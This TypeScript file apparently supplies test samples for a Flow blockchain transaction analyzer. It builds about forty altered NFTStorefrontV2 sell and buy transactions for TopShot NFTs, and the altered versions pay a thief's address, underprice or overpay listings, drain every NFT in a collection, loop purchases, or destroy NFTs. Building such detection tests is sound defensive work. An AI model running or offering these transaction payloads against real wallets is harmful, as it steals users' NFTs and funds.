import type { FlowAddress } from '@toolkit/core/account/address'
import { RECEIVER, VAULT } from './theft-variants.ts'

// Attacks on NFTs and FLOW on a market that an analysis of the usual ones misses. They weren't executed.

/**
 * Code of `prepare` that abuses a market's known contract, on Mainnet, with `TopShot` as collection. `market` without
 * changes sells and buys correctly.
 */
export const marketVariants = (thief: FlowAddress): Readonly<Record<string, string>> => ({
  'an NFT for a price in the code': market.sell.replace('amount: amount', 'amount: 0.01'),
  'an NFT for a price that is changed': `var price = amount\n price = 0.01\n ${market.sell.replace('amount: amount', 'amount: price')}`,
  'an NFT for a part of the price': market.sell.replace('amount: amount', 'amount: amount * 0.01'),
  'an NFT that a stranger is paid for': market.sell.replace(
    OWN_RECEIVER,
    `getAccount(0x${thief}).capabilities.get<&{FungibleToken.Receiver}>(/public/flowTokenReceiver)`,
  ),
  'an NFT that a stranger’s capability is paid for': market.sell.replace(
    OWN_RECEIVER,
    'Helper.cap()',
  ),
  'an NFT at cuts of a stranger': market.sell.replace(
    /saleCuts: \[.*?\)\]/,
    'saleCuts: Helper.cuts()',
  ),
  'an NFT whose id is in the code': market.sell.replace('nftID: n', 'nftID: 42'),
  'an NFT whose id a stranger says': market.sell.replace('nftID: n', 'nftID: Helper.id'),
  'an NFT for a stranger’s token': market.sell.replace('@FlowToken.Vault', '@Helper.Vault'),
  'an NFT for a token by a name': `let token = n > 0 ? Type<@Helper.Vault>() : Type<@FlowToken.Vault>()\n ${market.sell.replace('Type<@FlowToken.Vault>()', 'token')}`,
  'an NFT that an argument or a stranger is paid for': market.sell.replace(
    OWN_RECEIVER,
    `getAccount(Type<Helper.S>().address ?? to).capabilities.get<&{FungibleToken.Receiver}>(/public/flowTokenReceiver)`,
  ),
  'an NFT that the signer or a stranger is paid for': market.sell.replace(
    OWN_RECEIVER,
    `getAccount(Type<Helper.S>().address ?? signer.address).capabilities.get<&{FungibleToken.Receiver}>(/public/flowTokenReceiver)`,
  ),
  'an NFT for a price that says nothing': market.sell.replace(
    'amount: amount',
    'amount: n >= 0 ? UFix64(SignatureAlgorithm.ECDSA_P256.rawValue) : amount',
  ),
  'an NFT for a price that says nothing, by a name': `let price = n >= 0 ? UFix64(SignatureAlgorithm.ECDSA_P256.rawValue) : amount\n ${market.sell.replace('amount: amount', 'amount: price')}`,
  'an NFT whose id says nothing': market.sell.replace(
    'nftID: n',
    'nftID: n == 0 ? n : UInt64(/public/aaa.toString().length)',
  ),
  'several NFTs in the code': batch('[1, 2, 3, 4, 5, 6, 7]'),
  'several NFTs, more of them': `let own = ${COLLECTION}\n let some <- own.batchWithdraw(ids: [])\n for id in own.getIDs() { some.deposit(token: <-own.withdraw(withdrawID: id)) }\n getAccount(to).capabilities.borrow<&TopShot.Collection>(/public/MomentCollection)!.batchDeposit(tokens: <-some)`,
  'every NFT at once': batch(`${COLLECTION}.getIDs()`),
  'what is bought, to another': market.buy.replace(
    'signer.storage.borrow<&TopShot.Collection>(from: /storage/c)!',
    `getAccount(0x${thief}).capabilities.borrow<&TopShot.Collection>(/public/MomentCollection)!`,
  ),
  'what is bought, to a stranger’s contract': market.buy.replace(
    /signer\.storage\.borrow<&TopShot.*/,
    'Helper.take(<-listing.purchase(payment: <-paid, commissionRecipient: nil))',
  ),
  'as much as a listing has for another number': market.buy.replace('.salePrice', '.expiry'),
  'all NFTs': `for id in signer.storage.borrow<&TopShot.Collection>(from: /storage/c)!.getIDs() { ${market.sell.replace('nftID: n', 'nftID: id')} }`,
  'an NFT in a stranger’s storefront': market.sell.replace(
    OWN_STOREFRONT,
    `getAccount(0x${thief}).capabilities.borrow<&NFTStorefrontV2.Storefront>(NFTStorefrontV2.StorefrontPublicPath)!`,
  ),
  'an NFT in a storefront of another contract': market.sell.replace(
    OWN_STOREFRONT,
    'signer.storage.borrow<&Helper.Storefront>(from: /storage/s)!',
  ),
  'the account beside an NFT': market.sell.replace('customID: nil', 'customID: Helper.id(signer)'),
  'the price that a stranger’s code asks': market.buy.replace(
    '&NFTStorefrontV2.Storefront>',
    '&{NFTStorefrontV2.StorefrontPublic}>',
  ),
  'the price of a listing in the code': market.buy.replace(
    'listingResourceID: n',
    'listingResourceID: 1',
  ),
  'the price of a seller in the code': market.buy.replace(
    'getAccount(to)',
    `getAccount(0x${thief})`,
  ),
  'all NFTs in a collection filled by a reference': `${NFTS}\n let mine <- TopShot.createEmptyCollection(nftType: Type<@TopShot.NFT>())\n let r = &mine as &{NonFungibleToken.Collection}\n ${EACH} { r.deposit(token: <-own.withdraw(withdrawID: id)) }\n getAccount(0x${thief}).capabilities.borrow<&TopShot.Collection>(/public/c)!.batchDeposit(tokens: <-mine)`,
  'all NFTs put among none': `${NFTS}\n let mine <- own.batchWithdraw(ids: [])\n ${EACH} { mine.deposit(token: <-own.withdraw(withdrawID: id)) }\n getAccount(to).capabilities.borrow<&TopShot.Collection>(/public/c)!.batchDeposit(tokens: <-mine)`,
  'more than the price': market.buy.replace('.salePrice', '.salePrice + 1000.0'),
  'the price, to another': market.buy.replace(
    /signer\.storage\.borrow<&TopShot.*/,
    `getAccount(0x${thief}).${RECEIVER}.deposit(from: <-paid)`,
  ),
  'the price, to an argument': market.buy.replace(
    /signer\.storage\.borrow<&TopShot.*/,
    `getAccount(to).${RECEIVER}.deposit(from: <-paid)`,
  ),
  'the price, for another listing': market.buy.replace(
    'listing.purchase',
    `getAccount(to).capabilities.borrow<&NFTStorefrontV2.Storefront>(NFTStorefrontV2.StorefrontPublicPath)!.borrowListing(listingResourceID: 7)!.purchase`,
  ),
  'another field for the price': market.buy.replace('salePrice', 'expiry'),
  'the price many times': `while true { ${market.buy} }`,
  'the price for each of a list': `for one in list { ${market.buy} }`,
  'the price or more': market.buy.replace(
    'amount: listing.getDetails().salePrice',
    'amount: n > 0 ? 100000.0 : listing.getDetails().salePrice',
  ),
  'an NFT that is bought for a stranger': market.buy.replace(
    OWN_COLLECTION,
    `getAccount(0x${thief}).capabilities.borrow<&TopShot.Collection>(/public/c)!.deposit(token: <-`,
  ),
  'an NFT that is bought and handed on': market.buy.replace(OWN_COLLECTION, 'Helper.take(<-'),
  'an NFT that is bought and destroyed': market.buy
    .replace(OWN_COLLECTION, 'let nft <- ')
    .replace(/\)$/, '\n destroy nft'),
})

const NFTS =
  'let own = signer.storage.borrow<auth(NonFungibleToken.Withdraw) &TopShot.Collection>(from: /storage/c)!'
const EACH = 'for id in own.getIDs()'

const COLLECTION =
  'signer.storage.borrow<auth(NonFungibleToken.Withdraw) &TopShot.Collection>(from: /storage/c)!'
const batch = (ids: string) =>
  `getAccount(to).capabilities.borrow<&TopShot.Collection>(/public/MomentCollection)!.batchDeposit(tokens: <-${COLLECTION}.batchWithdraw(ids: ${ids}))`
const OWN_RECEIVER = 'signer.capabilities.get<&{FungibleToken.Receiver}>(/public/flowTokenReceiver)'
const OWN_COLLECTION =
  'signer.storage.borrow<&TopShot.Collection>(from: /storage/c)!.deposit(token: <-'
const OWN_STOREFRONT =
  'signer.storage.borrow<auth(NFTStorefrontV2.CreateListing) &NFTStorefrontV2.Storefront>(from: NFTStorefrontV2.StorefrontStoragePath)!'

/** Lists an NFT, and buys one, as the arguments say. */
export const market = {
  sell: `let provider = signer.capabilities.storage.issue<auth(NonFungibleToken.Withdraw) &{NonFungibleToken.Collection}>(/storage/c)\n ${OWN_STOREFRONT}.createListing(nftProviderCapability: provider, nftType: Type<@TopShot.NFT>(), nftID: n, salePaymentVaultType: Type<@FlowToken.Vault>(), saleCuts: [NFTStorefrontV2.SaleCut(receiver: ${OWN_RECEIVER}, amount: amount)], marketplacesCapability: nil, customID: nil, commissionAmount: 0.0, expiry: n)`,
  buy: `let listing = getAccount(to).capabilities.borrow<&NFTStorefrontV2.Storefront>(NFTStorefrontV2.StorefrontPublicPath)!.borrowListing(listingResourceID: n)!\n let paid <- ${VAULT}.withdraw(amount: listing.getDetails().salePrice)\n ${OWN_COLLECTION}listing.purchase(payment: <-paid, commissionRecipient: nil))`,
}
